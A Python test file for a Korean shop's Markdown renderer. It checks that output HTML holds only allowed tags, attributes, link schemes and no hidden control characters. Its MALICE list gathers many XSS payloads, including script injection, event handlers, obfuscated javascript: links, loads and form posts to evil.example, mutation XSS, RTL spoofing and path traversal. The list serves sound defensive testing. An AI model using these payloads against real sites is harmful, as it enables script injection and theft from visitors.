"""What comes out of Markdown is harmless whatever went in, and is what the writer meant where they meant well."""

import re
from html.parser import HTMLParser
from urllib.parse import urlsplit

import pytest
from hypothesis import given
from hypothesis import strategies as st

from ieum.shop.publishing.invisible import strip_invisible
from ieum.shop.publishing.rendering import LENGTH, render
from tests.shop.builders.text_files import FILES

PLAIN = "p br hr ul li blockquote pre code em strong s table thead tbody tr"
ALLOWED = {
    **{f"h{level}": {"id"} for level in range(2, 7)},
    **{tag: set[str]() for tag in PLAIN.split()},
    "ol": {"start"},
    "a": {"href", "title", "rel"},
    "img": {"src", "alt", "title", "width", "height", "loading"},
    "div": {"class", "role", "tabindex", "aria-label"},
    "th": {"scope", "align"},
    "td": {"align"},
}
BIDI = re.compile("[\u200b\u200e\u200f\u061c\u202a-\u202e\u2066-\u2069\u0000-\u0008\u007f]")


class Reader(HTMLParser):
    """Reads as a browser does, and notes whatever may not be there."""

    def __init__(self) -> None:
        super().__init__()
        self.wrong = list[str]()
        self.open = list[str]()
        self.ids = list[str]()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in {"br", "hr", "img"}:
            self.open.append(tag)
        for name, value in attrs:
            if name not in ALLOWED.get(tag, set()):
                self.wrong.append(f"<{tag} {name}={value}>")
            if name == "id":
                self.ids.append(value or "")
            if name == "href" and not _leads_somewhere_harmless(value or ""):
                self.wrong.append(f"href {value}")
            if name == "src" and not (value or "").startswith("/files/"):
                self.wrong.append(f"src {value}")
        if tag not in ALLOWED:
            self.wrong.append(f"<{tag}>")

    def handle_endtag(self, tag: str) -> None:
        if not self.open or self.open.pop() != tag:
            self.wrong.append(f"</{tag}> closes nothing")

    def handle_comment(self, data: str) -> None:
        self.wrong.append(f"comment {data}")

    def handle_decl(self, decl: str) -> None:
        self.wrong.append(f"declaration {decl}")

    def handle_pi(self, data: str) -> None:
        self.wrong.append(f"instruction {data}")


def _leads_somewhere_harmless(href: str) -> bool:
    # As browsers do: white space and control characters in front of and within a scheme count for nothing.
    bare = re.sub(r"[\x00-\x20]", "", href)
    return urlsplit(bare).scheme.lower() in {"", "http", "https", "mailto", "tel"} and not bare.startswith(
        "//"
    )


def read(html: str) -> Reader:
    reader = Reader()
    reader.feed(html)
    reader.close()
    return reader


def assert_harmless(body: str) -> None:
    rendered = render(body, FILES, {})
    pieces = [rendered.html, rendered.lead, *(section.html for section in rendered.sections)]
    for html in pieces:
        reader = read(html)
        # A picture that is not there is told to the writer, and such a text is not published.
        assert [wrong for wrong in reader.wrong if wrong != "src "] == []
        assert reader.open == []
        assert len(set(reader.ids)) == len(reader.ids)
    for text in (*pieces, rendered.plain_text, *(section.title for section in rendered.sections)):
        assert not BIDI.search(text)
    if 'src=""' in rendered.html:
        assert rendered.problems


MALICE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    '<a href="javascript:alert(1)">x</a>',
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<style>*{display:none}</style>",
    "<!--",
    "-->",
    "<![CDATA[",
    "<?php ?>",
    "<!DOCTYPE html>",
    '<div style="position:fixed" onclick=alert(1)>',
    "<base href=//evil.example>",
    "<form action=//evil.example><input>",
    "<math><mtext></table><mglyph><style><img src=x onerror=alert(1)>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A;avascript&colon;alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](data:image/svg+xml;base64,PHN2Zz4=)",
    "[x](//evil.example/)",
    "[x](/\\evil.example/)",
    "[x](/%09/evil.example/)",
    "[x](file:///etc/passwd)",
    "<javascript:alert(1)>",
    "<data:text/html,x>",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml,<svg/onload=alert(1)>)",
    "![x](https://evil.example/track.png)",
    '![" onerror="alert(1)](files/step.svg)',
    '![x](files/step.svg "\\" onload=alert(1)")',
    "[x](https://a.example \"' onmouseover='alert(1)\")",
    "[x]: javascript:alert(1)\n\n[x]",
    '```"><script>alert(1)</script>\n</code></pre><script>\n```',
    "~~~ onclick=alert(1)\nx\n~~~",
    "| a | <script> |\n|:--:|--:|\n| <img src=x onerror=alert(1)> | [x](javascript:1) |",
    "## <b onclick=x>제목</b> {#x onclick=y}",
    "## root\n\n## root\n\n## root-2",
    "\u202efdp.exe\u202c",
    "&#x202e;&#8238;&#x2067;&rlm;&lrm;&ZeroWidthSpace;",
    "[\u202emoc.elgoog](https://evil.example)",
    "\x00\x0b\x1f\x7f\ufeff",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\\<script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "{{constructor}}",
]


@pytest.mark.parametrize("body", MALICE)
def test_malicious_markdown_becomes_harmless(body: str) -> None:
    assert_harmless(body)


@given(
    st.lists(
        st.one_of(
            st.sampled_from(MALICE),
            st.sampled_from(list("<>[]()!#*_`~|:-\"'\\&;\n\t 가a1")),
            st.text(max_size=5),
        )
    )
)
def test_any_combination_of_malicious_pieces_becomes_harmless(parts: list[str]) -> None:
    assert_harmless("".join(parts))


@given(
    st.lists(st.sampled_from([*MALICE, "> ", "- ", "1. ", "  ", "\n", "**", "| a |\n|--|\n"]), max_size=40)
)
def test_nested_markup_becomes_harmless(parts: list[str]) -> None:
    assert_harmless("".join(parts))


def test_raw_html_is_shown_as_it_was_written() -> None:
    assert render("<b>굵게</b>", {}, {}).html == "<p>&lt;b&gt;굵게&lt;/b&gt;</p>"


@pytest.mark.parametrize(
    ("body", "html"),
    [
        pytest.param(
            "[문의](/support/inquiry?page=1)", '<a href="/support/inquiry?page=1">문의</a>', id="inside"
        ),
        pytest.param(
            "[위](https://www.wireguard.com/)",
            '<a href="https://www.wireguard.com/" rel="noopener">위</a>',
            id="outside",
        ),
        pytest.param("[전화](tel:02-123)", '<a href="tel:02-123">전화</a>', id="telephone"),
        pytest.param("[메일](mailto:a@b.example)", '<a href="mailto:a@b.example">메일</a>', id="mail"),
        pytest.param(
            "[아래](#연결-확인)", '<a href="#%EC%97%B0%EA%B2%B0-%ED%99%95%EC%9D%B8">아래</a>', id="below"
        ),
        pytest.param(
            "[신청서](files/신청서.pdf)",
            '<a href="/files/fedcba9876543210-%EC%8B%A0%EC%B2%AD%EC%84%9C.pdf">신청서</a>',
            id="attachment",
        ),
        pytest.param("~~취소~~", "<s>취소</s>", id="strikethrough"),
        pytest.param(
            "![기기 추가 단추](files/step.svg)",
            '<img src="/files/0123456789abcdef-step.svg" alt="기기 추가 단추" width="640" height="360" loading="lazy">',
            id="picture",
        ),
    ],
)
def test_ordinary_markdown_is_rendered(body: str, html: str) -> None:
    rendered = render(body, FILES, {})

    assert (rendered.html, rendered.problems) == (f"<p>{html}</p>", [])


def test_a_table_scrolls_by_itself_and_names_its_columns() -> None:
    html = render("| 이름 | 값 |\n|---|--:|\n| 가 | 1 |", {}, {}).html

    assert html.startswith('<div class="table-scroll" role="group" tabindex="0" aria-label="표 1"><table>')
    assert '<th scope="col" align="right">값</th>' in html
    assert '<td align="right">1</td>' in html
    assert "style" not in html


def test_headings_get_ids_of_their_words_that_do_not_clash_with_the_page() -> None:
    rendered = render("## 기기 추가!\n\n## 기기 추가\n\n## main\n\n### **연결** `확인`", {}, {})

    assert re.findall(r'id="([^"]+)"', rendered.html) == [
        "기기-추가",
        "기기-추가-2",
        "section-main",
        "연결-확인",
    ]


def test_sections_begin_at_headings_of_the_second_level() -> None:
    rendered = render("앞글\n\n## 하나\n\n글\n\n### 속\n\n## 둘\n\n> ## 인용", {}, {})

    assert rendered.lead == "<p>앞글</p>"
    assert [(s.id, s.title) for s in rendered.sections] == [("하나", "하나"), ("둘", "둘")]
    assert rendered.sections[0].html == '<p>글</p>\n<h3 id="속">속</h3>'
    assert "<h2" not in rendered.sections[0].html
    assert rendered.html.startswith('<p>앞글</p>\n<h2 id="하나">하나</h2>')


def test_plain_text_has_a_line_for_each_block() -> None:
    rendered = render("## 제목\n\n**굵은** [글](/x)\n이어서 `명령`\n\n| 가 | 나 |\n|-|-|\n| 1 | 2 |", {}, {})

    assert rendered.plain_text.split("\n") == ["제목", "굵은 글 이어서 명령", "가", "나", "1", "2"]


@pytest.mark.parametrize(
    ("body", "problem"),
    [
        pytest.param("# 제목", "headings begin with ##", id="first level"),
        pytest.param("![](files/step.svg)", "needs words that say what it shows", id="no words"),
        pytest.param(
            "![그림](https://evil.example/x.png)", "there is no such file", id="somebody else's picture"
        ),
        pytest.param("![그림](files/none.svg)", "there is no such file", id="no such picture"),
        pytest.param("![그림](files/../../etc/passwd)", "there is no such file", id="a way out"),
        pytest.param("[글](files/none.pdf)", "there is no such file", id="no such attachment"),
        pytest.param("|a|\n|-|\n" + "|1|\n" * 501, "more than 500 rows", id="a long table"),
        pytest.param("|" * 22 + "\n" + "|-" * 21 + "|", "or 20 columns", id="a broad table"),
        pytest.param("가" * (LENGTH + 1), "longer than", id="too long"),
        pytest.param("> " * 25 + "글", "too deep", id="too deep"),
    ],
)
def test_markup_that_cannot_be_shown_is_reported(body: str, problem: str) -> None:
    assert any(problem in told for told in render(body, FILES, {}).problems)


def test_joined_emoji_and_korean_syllables_stay_whole() -> None:
    assert strip_invisible("👩\u200d💻 한글\u200b\u202e\r\n") == "👩\u200d💻 한글\n"
